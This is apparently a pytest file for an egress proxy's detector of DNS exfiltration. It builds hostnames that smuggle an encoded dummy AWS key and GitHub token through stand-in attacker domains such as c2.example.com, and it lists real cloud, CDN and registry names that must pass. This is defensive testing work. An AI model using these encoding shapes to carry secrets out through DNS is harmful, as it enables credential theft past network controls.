"""egress.core.exfil: names that carry data out in their labels, and real names that must pass."""

import base64
import hashlib

import pytest
from conftest import run_curl

from egress.core import exfil
from egress.policy.loader import policy_from_mapping

# Encoder output as it would leave: each must be refused.
_SECRET = b"AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG"
_TOKEN = b"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"  # the red team's (a made-up value)


def _split(text: str, size: int) -> str:
    """``text`` as labels of ``size`` characters, as an encoder splits its output."""
    return ".".join(text[i:i + size] for i in range(0, len(text), size))


EXFIL = [
    ("JBSWY3DPEHPK3PXP.exfil.example.com".lower(), "base32"),  # the example ("Hello!" + 0xdeadbeef)
    ("a" * 0 + hashlib.sha256(b"x").hexdigest()[:60] + ".exfil.example.com", "hex"),  # a 60-character hex label
    (hashlib.sha1(_SECRET).hexdigest() + ".t.example.net", "hex"),  # 40 hex: xxd -p | head -c 40
    (base64.b32encode(_SECRET[:20]).decode().rstrip("=").lower() + ".x.example.org", "base32"),
    # dnscat2: hex of its packet, one label of 63 and the rest
    ("dnscat." + hashlib.sha512(_SECRET).hexdigest()[:63] + ".c2.example.com", "hex"),
    # base64url lowered by the resolver path (case is gone): letters and digits, long
    (base64.urlsafe_b64encode(hashlib.sha512(_SECRET).digest()).decode()[:50].lower().replace("-", "x").replace("_", "y")
     + ".e.example.com", "random"),
    # split into labels of 12: no one run is long, together they are
    (".".join(base64.b32encode(hashlib.sha256(_SECRET).digest()).decode().lower()[i:i + 12] for i in (0, 12, 24, 36))
     + ".s.example.com", "spread"),
    # Issue 26: short labels, chains of labels, base64 with its own characters.
    (_split(_TOKEN.hex()[:48], 8) + ".h.example.com", "hex split"),  # xxd -p | fold -w8
    (_split(_TOKEN[:16].hex(), 12) + ".h.example.com", "hex split"),  # 16 bytes in labels of 12
    (_split(base64.b32encode(_TOKEN[:20]).decode().lower(), 8) + ".b.example.com", "short labels"),
    (_split(base64.urlsafe_b64encode(_TOKEN).decode().rstrip("=").lower(), 8) + ".b.example.com", "short labels"),
    # base64url lowered: an underscore inside a label, or hyphens splitting it into runs
    (base64.urlsafe_b64encode(hashlib.sha256(_SECRET).digest()).decode().rstrip("=").lower() + ".u.example.com",
     "base64"),
    ("7nixl1rccvur9poabnyf2xrpmyanosyr4-qogqlasnuham-h3i.y.example.com", "base64"),
    # more labels than a real name has, whatever is in them (here: hex, two digits a label)
    (_split(hashlib.sha256(_SECRET).hexdigest()[:22], 2) + ".c.example.com", "chain"),
    ("gggg1111.hhhh2222.iiii3333.jjjj4444.kkkk5555.llll6666.mmmm7777.nnnn8888.oooo9999.x.example.com", "chain"),
]

# Real names of CDNs, clouds, package mirrors and CI services: each must pass.
REAL = [
    "d111111abcdef8.cloudfront.net",  # CloudFront distribution
    "d3ozbcq8bq3bkn.cloudfront.net",
    "main.d1a2b3c4d5e6f7.amplifyapp.com",
    "my-bucket-2024.s3.amazonaws.com",  # S3, path and virtual-host styles
    "my-bucket.s3.us-east-1.amazonaws.com",
    "s3.dualstack.eu-west-1.amazonaws.com",
    "abcdef1234.execute-api.us-east-1.amazonaws.com",  # API Gateway
    "d-abcdef1234.execute-api.eu-central-1.amazonaws.com",
    "abcdefghijklmnopqrstuvwxyz012345.lambda-url.us-east-1.on.aws",  # Lambda function URL (32)
    "x4s2ofmt0tqcj3s0v8d9lxgbpq5ybn9e.lambda-url.eu-west-1.on.aws",
    "0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com",  # R2 account id (32 hex)
    "a3k7odshaiipe8-ats.iot.us-east-1.amazonaws.com",
    "vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.us-east-1.vpce.amazonaws.com",
    "my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com",
    "internal-my-alb-1234567890.eu-west-1.elb.amazonaws.com",
    "123456789012.dkr.ecr.us-east-1.amazonaws.com",
    "prod-us-east-1-starport-layer-bucket.s3.us-east-1.amazonaws.com",
    "myapp-h7gbcsd5dsh8fcd4.z01.azurefd.net",  # Azure Front Door
    "productionresultssa0.blob.core.windows.net",  # GitHub Actions results
    "pipelinesghubeus2.actions.githubusercontent.com",
    "objects.githubusercontent.com",
    "codeload.github.com",
    "abcdefghijklmnopqrst.supabase.co",
    "my-service-abc123xyz-uc.a.run.app",  # Cloud Run
    "r3---sn-4g5e6nsz.googlevideo.com",
    "storage.googleapis.com",
    "5f1a2b3c4d5e6f7a8b9c0d1e--my-site.netlify.app",  # Netlify deploy preview (24 hex)
    "my-project-git-feature-branch-name-my-team.vercel.app",
    "my-app-1a2b3c4d5e6f.herokuapp.com",
    "e1234.a.akamaiedge.net",
    "dualstack.n.sni.global.fastly.net",
    "production.cloudflare.docker.com",
    "registry-1.docker.io",
    "registry.npmjs.org",
    "files.pythonhosted.org",
    "deb.debian.org",
    "security.ubuntu.com",
    "mirrors.edge.kernel.org",
    "proxy.golang.org",
    "static.crates.io",
    "index.crates.io",
    "repo.maven.apache.org",
    "dl.google.com",
    "ghcr.io",
    "pkg-containers.githubusercontent.com",
    "sessionmanager.eu-west-1.amazonaws.com",
    "sts.amazonaws.com",
    "cognito-idp.ap-southeast-2.amazonaws.com",
    "xn--bcher-kva.example",
    "a1b2c3d4e5.execute-api.ap-northeast-1.amazonaws.com",
    "api.anthropic.com",
    "127.0.0.1",
    "localhost",
    # Load balancers, clusters and databases (AWS ELB/NLB, EKS, RDS, ElastiCache, MSK, ...)
    "my-nlb-0123456789abcdef.elb.us-east-1.amazonaws.com",
    "dualstack.my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com",
    "k8s-default-myingres-1a2b3c4d5e-1234567890.us-east-1.elb.amazonaws.com",
    "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6-1234567890.us-east-1.elb.amazonaws.com",  # an EKS LoadBalancer service
    "0123456789abcdef0123456789abcdef.gr7.us-east-1.eks.amazonaws.com",  # EKS API endpoint (32 hex)
    "b3f1c2d4e5a6978812ab34cd56ef7890.yl4.eu-west-1.eks.amazonaws.com",
    "oidc.eks.us-east-1.amazonaws.com",
    "mydb.c9akciq32lkz.us-east-1.rds.amazonaws.com",
    "mydb-cluster.cluster-ro-c9akciq32lkz.us-east-1.rds.amazonaws.com",
    "my-cache.abc123.ng.0001.use1.cache.amazonaws.com",
    "my-cache-001.abc123.0001.use1.cache.amazonaws.com",
    "b-1.mycluster.abc123.c2.kafka.us-east-1.amazonaws.com",
    "b-2.my-msk-cluster.x1y2z3.c12.kafka-serverless.eu-central-1.amazonaws.com",
    "abcdefghijklmnopqrstuvwxyz.appsync-api.us-east-1.amazonaws.com",
    "a1234567890abcdef.awsglobalaccelerator.com",
    "ec2-203-0-113-25.compute-1.amazonaws.com",
    "ip-10-0-0-1.ec2.internal",
    "ip-172-31-22-105.eu-west-1.compute.internal",
    "vpce-1234567890abcdef0-abcdefgh-us-east-1a.ec2.us-east-1.vpce.amazonaws.com",
    "mycluster.abc123xyz789.us-east-1.redshift.amazonaws.com",
    "docdb-2019-01-01.cluster-cabcdefghijk.us-east-1.docdb.amazonaws.com",
    "portal.sso.us-east-1.amazonaws.com",
    "bedrock-runtime.us-east-1.amazonaws.com",
    "public.ecr.aws",
    # S3 virtual-hosted names, buckets with dots
    "my.bucket.with.dots.s3.us-east-1.amazonaws.com",
    "images.example.com.s3.amazonaws.com",
    "assets.staging.eu.app.company-name.s3.eu-west-1.amazonaws.com",
    "my-bucket.s3-website-us-east-1.amazonaws.com",
    "my-bucket.s3.dualstack.ap-southeast-2.amazonaws.com",
    "github-production-release-asset-2e65be.s3.amazonaws.com",
    # Azure
    "myaks-dns-1a2b3c4d.hcp.eastus.azmk8s.io",
    "myaks-dns-1a2b3c4d.privatelink.eastus.azmk8s.io",
    "mystorageaccount.privatelink.blob.core.windows.net",
    "myapp-staging.scm.azurewebsites.net",
    "myapp-a1b2c3d4e5f6g7h8.eastus-01.azurewebsites.net",
    "victorious-river-0a1b2c3d4.3.azurestaticapps.net",
    "myvault.vault.azure.net",
    "myregistry.eastus.data.azurecr.io",
    "myapp.eastus.cloudapp.azure.com",
    "my-resource.openai.azure.com",
    "eastus.data.mcr.microsoft.com",
    "login.microsoftonline.com",
    # GCP (run.app old and new forms, App Engine versions, Artifact Registry)
    "my-service-abcdefghij-uc.a.run.app",
    "my-service-123456789012.us-central1.run.app",
    "my-service-3x7q9k2m4n-ew.a.run.app",
    "us-central1-my-project.cloudfunctions.net",
    "20240101t123456-dot-my-service-dot-my-project.uc.r.appspot.com",
    "us-central1-aiplatform.googleapis.com",
    "europe-west1-docker.pkg.dev",
    "us-docker.pkg.dev",
    "abcdef12345-dot-us-central1.notebooks.googleusercontent.com",
    "rr3---sn-ab5l6nzr.googlevideo.com",
    # Fastly, Akamai, Cloudflare and other CDNs
    "j.sni.global.fastly.net",
    "prod.fastly.map.fastlylb.net",
    "a248.e.akamai.net",
    "e673.dsce9.akamaiedge.net",
    "a1234.w10.akamai.net",
    "www.example.com.edgekey.net",
    "www.example.com.edgekey.net.globalredir.akadns.net",
    "www.microsoft.com-c-3.edgekey.net",
    "download.windowsupdate.com.c.footprint.net",
    "my-worker.my-subdomain.workers.dev",
    "1a2b3c4d.myproject.pages.dev",
    "3f7a9c2e-1b4d-4e8f-9a6b-0c1d2e3f4a5b.cfargotunnel.com",
    "my-app-abc123def.vercel.app",
    "o4504123456789012.ingest.us.sentry.io",
    # Registries and mirrors
    "auth.docker.io",
    "index.docker.io",
    "cdn01.quay.io",
    "gcr.io",
    "download.docker.com",
    "dl-cdn.alpinelinux.org",
    "mirrors.tuna.tsinghua.edu.cn",
    "download.fedoraproject.org",
    "ppa.launchpadcontent.net",
    "repo1.maven.org",
    "downloads.gradle-dn.com",
    "cas-bridge.xethub.hf.co",
    # Kubernetes service, pod and SRV names
    "kubernetes.default.svc.cluster.local",
    "web-0.nginx.default.svc.cluster.local",
    "_https._tcp.my-svc.my-namespace.svc.cluster.local",
    "10-244-1-5.my-namespace.pod.cluster.local",
    "prometheus-kube-prometheus-prometheus.monitoring.svc.cluster.local",
    "elasticsearch-master-0.elasticsearch-master-headless.logging.svc.cluster.local",
    "my-release-postgresql-0.my-release-postgresql-hl.default.svc.cluster.local",
    # Mail and service labels, deep internal names
    "_dmarc.example.com",
    "selector1._domainkey.example.com",
    "_acme-challenge.www.example.com",
    "_ldap._tcp.dc._msdcs.corp.example.com",
    "host12.rack3.row4.dc1.eu.corp.example.com",
    # Reverse lookups (the DNS front answers them): one address, however many labels
    "25.113.0.203.in-addr.arpa",
    "b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.0.0.0.0.1.2.3.4.ip6.arpa",
]

# Real names the shape test refuses under network = "all": an id that reads as data. An
# allow entry naming the service passes them (test_an_allow_entry_passes_an_id_and_deny_still_wins).
KNOWN_REFUSED = [
    "search-mydomain-3fbvvpvybnnqn3fsxb7rxklwme.us-east-1.es.amazonaws.com",  # OpenSearch: a 26-character base32 id
]


@pytest.mark.parametrize("name,kind", EXFIL)
def test_encoder_output_is_exfiltration(name, kind):
    why = exfil.shape(name)
    assert why is not None, name
    assert {"hex": "hex", "base32": "base32", "random": "random", "spread": "spread", "hex split": "hex digits split",
            "short labels": "in short labels", "base64": "base64-shaped", "chain": "a chain of"}[kind] in why, why


@pytest.mark.parametrize("name", REAL)
def test_real_names_pass(name):
    assert exfil.shape(name) is None


@pytest.mark.parametrize("name", KNOWN_REFUSED)
def test_known_refused_real_names(name):
    assert exfil.shape(name) is not None


def test_a_reverse_name_is_read_as_one():
    # 34 labels, each one nibble: an address, not a chain; the same count of anything else is.
    nibbles = ".".join("0123456789abcdef"[i % 16] for i in range(32))
    assert exfil.shape(nibbles + ".ip6.arpa") is None
    assert exfil.shape(nibbles + ".ip6.example.com") == "a chain of 35 labels"
    assert exfil.shape("ab." + nibbles + ".ip6.arpa") == "a chain of 35 labels"  # not one nibble a label


# ---------------------------------------------------------------- the policy decision


def test_policy_refuses_exfiltration_in_every_mode():
    name = "jbswy3dpehpk3pxp.exfil.example.com"
    for mapping in ({"allow": ["example.org"]}, {"network": "all"}):
        decision = policy_from_mapping(mapping).decide(name, 443)
        assert (decision.allowed, decision.reason) == (False, "exfiltration"), mapping
        assert "base32" in decision.detail


def test_an_allow_entry_passes_an_id_and_deny_still_wins():
    lambda_like = "jbswy3dpehpk3pxp.fn.example.com"
    assert policy_from_mapping({"allow": ["fn.example.com"]}).decide(lambda_like, 443).allowed
    decision = policy_from_mapping({"allow": ["fn.example.com"], "deny": ["example.com"]}).decide(lambda_like, 443)
    assert decision.reason == "denied"


def test_real_names_pass_network_all():
    policy = policy_from_mapping({"network": "all"})
    for name in REAL:
        assert policy.decide(name, 443).allowed, name


# ---------------------------------------------------------------- through a real proxy


def test_proxy_refuses_exfiltration_under_network_all(proxy_factory, curl_path, tmp_path):
    proxy = proxy_factory('network = "all"\n', names=["jbswy3dpehpk3pxp.exfil.test"])
    result = run_curl(curl_path, proxy, "http://jbswy3dpehpk3pxp.exfil.test/", "-i", home=tmp_path)
    out = result.stdout.decode()
    assert " 403 " in out.splitlines()[0]
    assert "X-Egress-Blocked: jbswy3dpehpk3pxp.exfil.test; reason=exfiltration" in out
    assert "EGRESS_BLOCKED jbswy3dpehpk3pxp.exfil.test: the name looks like data smuggled out" in out
    events = proxy.wait_for_audit(lambda e: e["reason"] == "exfiltration")
    assert [e["decision"] for e in events if e["reason"] == "exfiltration"] == ["block"]


def test_proxy_refuses_data_in_labels_before_dns(proxy_factory, curl_path, tmp_path):
    # network = "all", names resolved by a DNS server on loopback that the test runs: each new
    # shape is refused (403, reason exfiltration, the shape named), by CONNECT and by
    # absolute-form, and the DNS server was never asked about any of them.
    import socket
    import time

    from test_dns import DnsServer

    names = {kind: name.replace(".example.com", ".exfil.test") for name, kind in EXFIL[-8:]}
    dns_server = DnsServer()
    try:
        dns_server.answers["ok.exfil.test"] = ["127.0.0.1"]
        proxy = proxy_factory('network = "all"\n', "--dns-server", f"127.0.0.1:{dns_server.port}", names=[])
        for kind, name in names.items():
            result = run_curl(curl_path, proxy, f"http://{name}/", "-i", home=tmp_path)
            out = result.stdout.decode()
            assert " 403 " in out.splitlines()[0], (name, out)
            assert f"X-Egress-Blocked: {name}; reason=exfiltration" in out
            with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
                sock.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
                head = sock.recv(65536).decode("latin-1")
            assert head.startswith("HTTP/1.1 403") and "reason=exfiltration" in head, (name, head)
        refused = []
        for _ in range(200):  # events are written as flows finish, maybe just after the answers
            refused = [e for e in proxy.audit() if e["reason"] == "exfiltration"]
            if len(refused) >= 2 * len(names):
                break
            time.sleep(0.05)
        assert sorted(e["host"] for e in refused) == sorted(list(names.values()) * 2)
        assert all(e["decision"] == "block" and e["detail"] for e in refused)
        # the shape is what the refusal says: a chain, hex split over labels, base64, short labels
        assert {e["detail"].split(" ")[1] for e in refused} >= {"chain", "hex", "base64-shaped", "code-like"}
        assert [q for q in dns_server.queries if q[0] in names.values()] == []
    finally:
        dns_server.close()
